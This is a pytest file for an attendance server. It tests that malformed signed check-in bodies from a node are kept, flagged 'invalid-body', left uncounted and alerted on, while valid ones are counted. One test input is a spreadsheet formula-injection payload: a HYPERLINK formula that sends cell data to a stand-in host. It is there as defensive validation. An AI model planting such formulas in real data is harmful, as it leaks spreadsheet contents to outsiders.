"""An enrolled node that signs lies: central checks every check-in body it ingests as strictly
as the node builds them. A signed lie is evidence: it is stored (the chain goes on past it),
shown as ``invalid-body``, never counted, and raises an alert."""

from __future__ import annotations

from typing import Any

import pytest
from flask import Flask
from flask.testing import FlaskClient

from central.store.sqlite import SqliteStore

from .conftest import Clock, FakeNode
from .trustkit import at, install, nip, person

DAY = "2026-10-05"
UNIT_A, UNIT_B = "Seksi Pemerintahan", "Seksi Ekonomi dan Pembangunan"
HEAD_A, STAFF_A, HEAD_B, STAFF_A2 = nip(1), nip(2), nip(3), nip(4)


@pytest.fixture
def roster(app: Flask, clock: Clock) -> None:
    install(
        app,
        [
            person(1, UNIT_A, "kec-alalak", "head"),
            person(2, UNIT_A, "kec-alalak"),
            person(3, UNIT_B, "kec-alalak", "head"),
            person(4, UNIT_A, "kec-alalak"),
        ],
        clock.now,
    )


def _app_body(**changes: Any) -> dict[str, Any]:
    body: dict[str, Any] = {
        "nip": STAFF_A,
        "kind": "in",
        "method": "app",
        "device": "dev-12345678",
        "client_ts": None,
    }
    body.update(changes)
    return {k: v for k, v in body.items() if v is not _DROP}


_DROP = object()
_MANUAL = {"method": "manual", "witness": HEAD_A, "reason": "HP rusak, hadir apel"}

LIES = [
    ("teleport", _app_body(method="teleport"), "method must be one of"),
    ("method-missing", _app_body(method=_DROP), "method must be one of"),
    (
        "formula-nip",
        _app_body(nip='=HYPERLINK("http://x.example/?"&A1,"klik")'),
        "nip: NIP must be exactly 18 digits",
    ),
    ("nip-number", _app_body(nip=1985010120), "nip: NIP must be exactly 18 digits"),
    ("nip-bad-date", _app_body(nip="198513012010011001"), "birth date"),
    ("kind-sideways", _app_body(kind="sideways"), "kind must be in or out"),
    ("device-missing", _app_body(device=_DROP), "device is missing"),
    ("device-number", _app_body(device=7), "device must be a string"),
    ("client-ts-text", _app_body(client_ts="yesterday"), "client_ts"),
    ("geo-integer", _app_body(geo={"lat": -2, "lon": "114.75"}), "geo.lat"),
    ("geo-range", _app_body(geo={"lat": "-91", "lon": "114.75"}), "geo.lat is out of range"),
    ("kiosk-no-code", _app_body(method="kiosk"), "kiosk code"),
    ("app-with-witness", _app_body(witness=HEAD_A), "has no witness"),
    ("app-with-reason", _app_body(reason="karena"), "has no reason"),
    ("witness-missing", _app_body(method="witness"), "witness: NIP must be"),
    ("witness-self", _app_body(method="witness", witness=STAFF_A), "is the employee"),
    ("witness-unknown", _app_body(method="witness", witness=nip(900)), "not on the roster"),
    ("manual-no-reason", _app_body(method="manual", witness=HEAD_A), "needs a reason"),
    ("manual-reason-multiline", _app_body(**_MANUAL | {"reason": "a\nb c"}), "one line"),
    ("manual-by-staff", _app_body(**_MANUAL | {"witness": STAFF_A2}), "is not a head"),
    ("manual-other-unit-head", _app_body(**_MANUAL | {"witness": HEAD_B}), "heads another unit"),
    ("manual-self", _app_body(**_MANUAL | {"nip": HEAD_A}), "is the employee"),
]


@pytest.mark.parametrize(("name", "body", "reason"), LIES, ids=[lie[0] for lie in LIES])
def test_a_signed_lie_is_kept_not_counted_and_alerted(
    name: str,
    body: dict[str, Any],
    reason: str,
    client: FlaskClient,
    node: FakeNode,
    store: SqliteStore,
    clock: Clock,
    roster: None,
    viewer_token: str,
) -> None:
    clock.now = at(DAY, "07:00")
    assert node.push(client).status_code == 200
    lie = node.append("checkin", body, ts=at(DAY, "07:10"))
    honest = node.checkin(STAFF_A, ts=at(DAY, "07:20"))
    clock.now = at(DAY, "07:21")
    r = node.push(client, 1)
    assert r.status_code == 200, r.get_data(as_text=True)
    assert r.get_json()["accepted"] == 2  # the chain goes on past the lie

    stored = store.record("kec-alalak", node.epoch, lie["seq"])
    assert stored is not None and stored.problem is not None and reason in stored.problem
    kept = store.record("kec-alalak", node.epoch, honest["seq"])
    assert kept is not None and kept.problem is None
    alerts = [a for a in store.alerts("kec-alalak") if a.kind == "invalid-body"]
    assert len(alerts) == 1 and f"seq {lie['seq']}" in alerts[0].message

    rows = client.get(
        f"/api/v1/attendance?date={DAY}", headers={"Authorization": f"Bearer {viewer_token}"}
    ).get_json()
    refs = [ref for row in rows["employees"] for ref in row["records"]]
    listed = [ref for ref in refs if ref["seq"] == lie["seq"]]
    # Listed under its NIP when the NIP is a string at all (a formula NIP too).
    assert len(listed) == (1 if isinstance(body.get("nip"), str) else 0)
    for ref in listed:
        assert (ref["status"], ref["counted"]) == ("invalid-body", False)
        assert reason in ref["problem"]
    staff = next(row for row in rows["employees"] if row["nip"] == STAFF_A)
    # The honest 07:20 record is the arrival, not a lie at 07:10.
    assert staff["first_in"] == "2026-10-05T07:20:00.000+08:00"


@pytest.mark.parametrize(
    "body",
    [
        _app_body(),
        _app_body(
            kind="out",
            client_ts="2026-10-04T23:09:58.120Z",
            geo={"lat": "-2.9987", "lon": "114.7534", "acc_m": "12"},
        ),
        _app_body(method="kiosk", presence="K1.abc"),
        _app_body(method="witness", witness=HEAD_B),
        _app_body(**_MANUAL),
        _app_body(extra_field_of_a_later_version="x"),
    ],
    ids=["app", "out-geo", "kiosk", "witness", "manual", "unknown-member"],
)
def test_what_the_node_software_makes_is_counted(
    body: dict[str, Any],
    client: FlaskClient,
    node: FakeNode,
    store: SqliteStore,
    clock: Clock,
    roster: None,
) -> None:
    clock.now = at(DAY, "07:00")
    assert node.push(client).status_code == 200
    record = node.append("checkin", body, ts=at(DAY, "07:10"))
    clock.now = at(DAY, "07:11")
    assert node.push(client, 1).status_code == 200
    stored = store.record("kec-alalak", node.epoch, record["seq"])
    assert stored is not None and stored.problem is None and not stored.foreign
    assert not [a for a in store.alerts("kec-alalak") if a.kind == "invalid-body"]
